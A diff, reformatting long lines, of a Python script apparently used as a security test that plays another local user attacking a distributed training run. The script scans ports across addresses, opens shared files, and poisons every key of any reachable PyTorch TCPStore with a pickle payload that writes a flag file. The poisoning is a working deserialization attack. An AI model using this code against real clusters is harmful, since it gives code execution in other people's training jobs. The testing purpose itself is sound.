@@ -1,8 +1,10 @@
-"""Another user of the machine, who tries to get into a run: every port of its processes by every address, and the files they meet by.
+"""Another user of the machine, who tries to get into a run: every port of its processes by every address, and
+the files they meet by.
 
     python stranger.py '{"ports": [...], "addresses": [...], "files": [...], "names": [...], "flag": PATH}'
 
-Prints what was reached. Where a store answers, each of the names in it, and each of `names`, is given a pickle that writes `flag`.
+Prints what was reached. Where a store answers, each of the names in it, and each of `names`, is given a
+pickle that writes `flag`.
 """
 
 from __future__ import annotations
@@ -50,7 +52,9 @@ def poison(address: str, port: int, names: list[str], flag: str) -> list[str]:
     """The names in a store that answers, after each was given the payload."""
     content = pickle.dumps(Payload(flag))
     with contextlib.suppress(RuntimeError, ValueError):
-        store = TCPStore(address, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=_SECONDS))
+        store = TCPStore(
+            address, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=_SECONDS)
+        )
         there = store.list_keys()
         for name in {*there, *names}:
             store.set(name, base64.b64encode(content))
@@ -63,7 +67,11 @@ def main() -> None:
     become_nobody()
     places = [(address, port) for address in asked["addresses"] for port in asked["ports"]]
     with ThreadPoolExecutor(max(1, len(places))) as pool:
-        reached = [place for place, there in zip(places, pool.map(lambda place: connect(*place), places), strict=True) if there]
+        reached = [
+            place
+            for place, there in zip(places, pool.map(lambda place: connect(*place), places), strict=True)
+            if there
+        ]
     opened = []
     for path in asked["files"]:
         with contextlib.suppress(OSError), open(path, "r+b"):
